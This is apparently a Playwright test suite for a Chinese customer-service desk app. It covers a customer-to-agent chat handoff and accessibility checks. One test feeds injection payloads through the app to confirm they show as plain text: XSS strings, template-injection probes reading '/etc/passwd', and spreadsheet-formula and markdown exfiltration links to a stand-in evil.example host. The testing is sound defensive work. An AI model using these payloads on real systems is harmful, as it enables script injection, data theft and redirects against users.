/** The desk in a real browser, beside the browser of the person: what both see, what axe finds, what bad input does. */
import { randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { expect } from 'chai';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { codeAt, stepAt } from '../../desk/people/totp.ts';
import type { ClaimId, ConversationId } from '../../store/ports.ts';
import { newRig, PASSWORD, type Rig } from '../desk/rig.ts';
import { jpeg } from '../directline/pictures.ts';
import { Person } from '../e2e/client.ts';
import { claimWrite, event, turn } from '../store/fixtures.ts';
import { axeOn, describePage, launch } from './browser.ts';

const LAPTOP = { width: 1366, height: 768 };
const TABLET = { width: 1024, height: 768 };

async function looksGood(page: Page, where: string): Promise<void> {
  // By its own way around the page's policy, which lets no other script in.
  const violations = await axeOn(page);
  const said = violations.map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html.slice(0, 150)).join(' | ')}`);
  expect(said, where).to.deep.equal([]);
  const wider = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
  expect(wider, `${where} scrolls sideways`).to.be.at.most(0);
}

describePage('desk: two browsers side by side', function (this: Mocha.Suite) {
  this.timeout(120_000);
  let rig: Rig;
  let browser: Browser;
  let totp = '';
  /** Whatever a page asked of another host, ran against its policy, or threw. */
  const trouble: string[] = [];
  before(async () => {
    rig = await newRig();
    browser = await launch();
  });
  after(async () => {
    await browser?.close();
    await rig?.stop();
  });

  async function context(options: Parameters<Browser['newContext']>[0] = {}): Promise<BrowserContext> {
    const made = await browser.newContext({ locale: 'zh-CN', baseURL: rig.app.url, viewport: LAPTOP, ...options });
    made.setDefaultTimeout(10_000);
    made.on('request', (request) => {
      if (!request.url().startsWith(rig.app.url) && !request.url().startsWith('blob:')) trouble.push(request.url());
    });
    made.on('console', (message) => {
      if (message.type() === 'error') trouble.push(message.text());
    });
    made.on('weberror', (error) => trouble.push(String(error.error())));
    return made;
  }
  afterEach(() => {
    expect(trouble.splice(0)).to.deep.equal([]);
  });

  async function code(): Promise<string> {
    rig.clock.at += 30_000;
    return codeAt(totp, stepAt(rig.clock.at));
  }
  /** Also where the first story was not told. */
  let login = 'chen';
  async function signIn(page: Page): Promise<void> {
    if (totp === '') [login, totp] = ['admin', (await rig.first()).totp];
    await page.goto('/workbench');
    await page.locator('[name=login]').fill(login);
    await page.locator('[name=password]').fill(PASSWORD);
    await page.locator('[name=code]').fill(await code());
    await page.keyboard.press('Enter');
    await page.locator('#queue').waitFor();
  }

  it('from the set-up link to the hand-back: 转人工 first, accept, ask, photo, hand back, and the flow begins', async () => {
    const desk = await (await context()).newPage();
    await desk.goto((await rig.app.firstLink()) ?? '');
    await looksGood(desk, 'set-up');
    totp = (await desk.locator('#totp').innerText()).replaceAll(' ', '');
    await desk.locator('[name=login]').fill('chen');
    await desk.locator('[name=name]').fill('陈静');
    await desk.locator('[name=reach]').fill('0731-8888 6600');
    await desk.locator('[name=password]').fill(PASSWORD);
    await desk.locator('[name=again]').fill(PASSWORD);
    await desk.locator('[name=code]').fill(await code());
    await desk.keyboard.press('Enter');
    await desk.getByRole('button', { name: '我在，开始接待' }).click();
    await desk.getByText('接待中').waitFor();
    await looksGood(desk, 'empty queue');

    const phone = await (
      await context({ viewport: { width: 390, height: 844 }, hasTouch: true, isMobile: true })
    ).newPage();
    await phone.goto('/#chat');
    // Its greeting comes when the page can send.
    await phone.locator('#log .msg').first().waitFor();
    await phone.locator('#say-text').fill('转人工');
    await phone.locator('#say-send').click();
    // Nobody reloads: the stream tells it, the title counts it, the status line rings it.
    await desk.getByRole('button', { name: '接入对话' }).waitFor();
    expect(await desk.title()).to.match(/^\(1\) /);
    expect(await desk.locator('#ring').innerText()).to.include('有新的事要看');
    await looksGood(desk, 'queue');
    await desk.getByRole('button', { name: '接入对话' }).click();
    await phone.locator('#log .msg', { hasText: '陈静来了' }).waitFor();

    await desk.locator('#text').waitFor();
    await desk.waitForLoadState('load');
    await desk.keyboard.press('Escape');
    await desk.keyboard.press('/');
    await desk.keyboard.type('您好，现在在哪家医院？');
    await desk.keyboard.press('Control+Enter');
    await phone.locator('#log .msg', { hasText: '现在在哪家医院' }).waitFor();
    await desk.locator('#lines .person', { hasText: '现在在哪家医院' }).waitFor();
    expect(await desk.locator('#text').inputValue(), 'the box is empty again').to.equal('');
    await phone.locator('#say-text').fill('市一医院');
    await phone.locator('#say-send').click();
    await desk.locator('#lines .user', { hasText: '市一医院' }).waitFor();

    await desk.locator('select[data-templates]').selectOption({ label: '先治疗' });
    expect(await desk.locator('#text').inputValue(), 'shown before it is sent').to.include('先安心治疗');
    await desk.getByRole('button', { name: '发送' }).click();
    await phone.locator('#log .msg', { hasText: '先安心治疗' }).waitFor();

    await desk.getByRole('button', { name: '请客户拍照' }).click();
    await phone.locator('#log .msg', { hasText: '请拍一张照片' }).waitFor();
    await phone.locator('#gallery').setInputFiles({ name: 'a.jpg', mimeType: 'image/jpeg', buffer: jpeg() });
    await desk.locator('#lines a[data-picture]').waitFor();
    await desk.locator('#side a[data-picture]').first().click();
    await desk.getByRole('button', { name: '旋转' }).click();
    await desk.getByRole('button', { name: '放大' }).click();
    expect(await desk.locator('#picture').evaluate((node) => node.style.transform)).to.equal(
      'rotate(90deg) scale(1.25)',
    );
    await looksGood(desk, 'viewer');
    await desk.getByRole('button', { name: '关闭' }).click();

    await desk.locator('input[data-send]').setInputFiles({ name: '清单.jpg', mimeType: 'image/jpeg', buffer: jpeg() });
    await desk.locator('#lines .person a[data-picture]', { hasText: '清单' }).waitFor();
    await desk.locator('form[action$="/note"] textarea').fill('先问垫付');
    await desk.getByRole('button', { name: '记下', exact: true }).click();
    await desk.locator('#lines .note', { hasText: '先问垫付' }).waitFor();
    await looksGood(desk, 'conversation');
    await desk.setViewportSize(TABLET);
    await looksGood(desk, 'conversation on a tablet');
    await desk.setViewportSize(LAPTOP);
    await desk.locator('[name=agreed]').fill('明天上午补交照片');
    await desk.getByRole('button', { name: '交还机器人' }).click();
    await phone.locator('#log .msg', { hasText: '明天上午补交照片' }).waitFor();
    const order = async (page: Page, one: string): Promise<string[]> => {
      const all = await page.locator(one).allInnerTexts();
      return ['现在在哪家医院', '市一医院', '先安心治疗', '请拍一张照片', '明天上午补交照片'].filter((words) =>
        all.some((text) => text.includes(words)),
      );
    };
    expect(await order(phone, '#log .msg')).to.have.length(5);
    await phone.locator('#say-text').fill('解决了');
    await phone.locator('#say-send').click();
    await phone.locator('#say-text').fill('我要报案');
    await phone.locator('#say-send').click();
    await phone.locator('#answers button', { hasText: '没有这些情况' }).waitFor();
    expect((await phone.locator('#log').innerText()).includes('先问垫付'), 'a note is for colleagues').to.equal(false);
  });

  it('every page of the administrator is fit for everybody, in both languages and on a tablet', async () => {
    for (const [locale, viewport] of [
      ['zh-CN', TABLET],
      ['en', LAPTOP],
    ] as const) {
      const page = await (await context({ locale, viewport })).newPage();
      await page.goto('/workbench');
      await looksGood(page, `sign-in ${locale}`);
      await signIn(page);
      for (const path of ['queue', 'people', 'audit', 'me']) {
        await page.goto(`/workbench/${path}`);
        await looksGood(page, `${path} ${locale}`);
      }
      await page.goto('/workbench/c/none');
      await looksGood(page, `refused ${locale}`);
      // What is not there is told as that; the browser notes it too.
      trouble.splice(0);
    }
  });

  it('S18: whatever a person writes stays words', async () => {
    const page = await (await context()).newPage();
    await signIn(page);
    await page.evaluate(() => {
      (window as unknown as { hit: number }).hit = 0;
    });
    const person = new Person(rig.app.url);
    await person.begin();
    await person.listen();
    for (const payload of PAYLOADS)
      await person.call('POST', `/conversations/${person.conversation}/activities`, {
        ...{ type: 'message', text: payload, from: { id: 'me', name: payload } },
        channelData: { clientActivityID: payload.slice(0, 80), files: payload, speaker: payload, key: payload },
      });
    await person.upload(new Uint8Array(jpeg()), '"><img src=x onerror=alert(1)>.jpg', 'image/jpeg');
    await person.say('转人工');
    const id = person.conversation;
    page.on('dialog', (dialog) => {
      trouble.push(`a dialog opened: ${dialog.message()}`);
      void dialog.dismiss();
    });
    await page.goto(`/workbench/c/${id}?all=1&problem=<script>alert(1)</script>`);
    const shown = await page.locator('#lines .text').allInnerTexts();
    for (const payload of PAYLOADS)
      expect(
        shown.some((text) => text.trim() === payload.trim()),
        payload,
      ).to.equal(true);
    const acts = await page.evaluate(() => ({
      scripts: [...document.scripts].map((one) => one.src),
      links: [...document.querySelectorAll('a[href]')].map((one) => (one as HTMLAnchorElement).protocol),
      drawn: [...document.querySelectorAll('img.thumb')].map((one) => new URL((one as HTMLImageElement).src).pathname),
      strange: document.querySelectorAll(
        '#lines img:not(.thumb), #lines svg, #lines iframe, #lines [onerror], #lines [onload], #lines form',
      ).length,
    }));
    expect(acts.scripts.every((src) => src.startsWith(`${rig.app.url}/workbench/static/`))).to.equal(true);
    expect([...new Set(acts.links)]).to.deep.equal(['http:']);
    expect(acts.strange).to.equal(0);
    expect(acts.drawn, 'one photo, from our own address').to.have.length(1);
    expect(acts.drawn[0]).to.match(/^\/workbench\/c\/[\w-]+\/files\/[\w-]+$/);
    // Everything that a page shows, and two hundred odd texts more, as if no check had stood before it.
    await rig.app.runner.idle();
    await poison(rig, id as ConversationId);
    for (const path of [`/workbench/c/${id}?all=1`, '/workbench/queue', '/workbench/audit']) {
      expect((await page.goto(path))?.status(), path).to.equal(200);
      if (path.includes('/c/')) expect(await page.locator('#lines .line').count()).to.be.greaterThan(200);
      await page.waitForTimeout(300);
      const found = await page.evaluate(() => ({
        strange: document.querySelectorAll(
          'main img:not(#picture, .thumb), main svg, iframe, [onerror], [onload], [srcdoc], main script, main style, base, meta[http-equiv], main [hx-on\\:load]',
        ).length,
        forms: [...document.forms].map((form) => new URL(form.action).origin),
        links: [...document.querySelectorAll('a[href]')].map((one) => new URL((one as HTMLAnchorElement).href).origin),
        hx: [...document.querySelectorAll('[hx-get], [hx-post]')].map(
          (one) => one.getAttribute('hx-get') ?? one.getAttribute('hx-post') ?? '',
        ),
      }));
      expect(found.strange, path).to.equal(0);
      for (const origin of [...found.forms, ...found.links]) expect(origin, path).to.equal(rig.app.url);
      expect(
        found.hx.every((to) => to.startsWith('/workbench/')),
        path,
      ).to.equal(true);
    }
    // As a part that the stream brings, too.
    await person.say(`<img src=x onerror="window.hit=1">`).catch(() => {});
    await page.waitForTimeout(400);
    expect(await page.evaluate(() => (window as unknown as { hit?: number }).hit ?? 0)).to.equal(0);
  });
});

const CORPUS: readonly string[] = readFileSync(new URL('../fixtures/bad-input.txt', import.meta.url), 'utf8')
  .split('\n')
  .filter((line) => line !== '')
  .map((line) => String(JSON.parse(line)).slice(0, 2_000));

/** A report in which every word is bad, told by whoever wrote past every check; and lines with bad names and files. */
async function poison(rig: Rig, id: ConversationId): Promise<void> {
  const { store } = rig.app;
  const conversation = await store.conversation(id);
  if (!conversation) throw new Error('no conversation');
  const claim = randomUUID() as ClaimId;
  const [bad = ''] = PAYLOADS.slice(1);
  const all = PAYLOADS.join(' ');
  const report = {
    ...{
      what: all,
      where: { text: all },
      ownPlate: bad,
      phone: bad,
      role: bad,
      scene: bad,
      other: { kind: bad, plate: bad },
    },
    ...{ injuredCount: 1, dead: 0, injured: [{ n: 1, state: bad, hospital: bad }], flags: [], danger: 'none' },
  };
  const events = [
    event(claim, { at: rig.clock.at, data: { number: bad, report, lang: 'zh-CN' } }),
    event(claim, { type: 'promiseMade', data: { what: all, by: '2026-11-25T12:00:00+08:00', who: all } }),
  ];
  const said = [...PAYLOADS, ...CORPUS].map((text, i) => ({
    direction: i % 3 ? ('person' as const) : ('note' as const),
    payload: {
      ...{ type: 'message', text, from: { id: text, name: text.slice(0, 40) } },
      attachments: [{ contentType: text.slice(0, 40), contentUrl: i % 2 ? `file:${text}` : text, name: text }],
      suggestedActions: { actions: [{ type: 'openUrl', title: text, value: text }] },
    },
  }));
  const state = { ...conversation.state, claim: { id: claim, number: bad } };
  const claims = [claimWrite(claim, bad, { facts: { number: bad, report } as never })];
  const bindings = [
    {
      conversation: id,
      person: conversation.person,
      claim,
      role: 'driver',
      level: 'selfDeclared',
      verifiedAt: null,
    } as const,
  ];
  const handoff = await store.handoffOf(id);
  const handoffs = handoff ? [{ ...handoff, claim, data: { ...handoff.data, from: all, note: all, name: all } }] : [];
  const tickets = [
    {
      id: randomUUID(),
      kind: 'callBack',
      conversation: id,
      claim,
      at: rig.clock.at,
      data: { phone: bad, number: bad },
    } as const,
  ];
  const done = await store.commit(
    turn(conversation, {
      floor: conversation.floor,
      state,
      said,
      events,
      claims,
      bindings,
      handoffs,
      tickets,
      at: rig.clock.at,
    }),
  );
  expect(done.status).to.equal('committed');
}

/** Markup, links that act, templates, spreadsheets' formulas, and what turns text around. */
const PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '"><iframe srcdoc="<script>alert(1)</script>">',
  '[点我](javascript:alert(1))',
  '![x](https://evil.example/?c=)',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<form action=https://evil.example><button>x</button></form>',
  '<div hx-get="https://evil.example" hx-trigger="load">x</div>',
  '<div hx-on:load="alert(1)">x</div>',
  '{{7*7}} {{range.constructor("return process")()}}',
  '{% include "/etc/passwd" %}',
  '$t(desk.name) <%= 7*7 %> #{7*7}',
  '=HYPERLINK("https://evil.example","x")',
  '<style>*{display:none}</style>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '</p></div></main><h1>x</h1>',
];
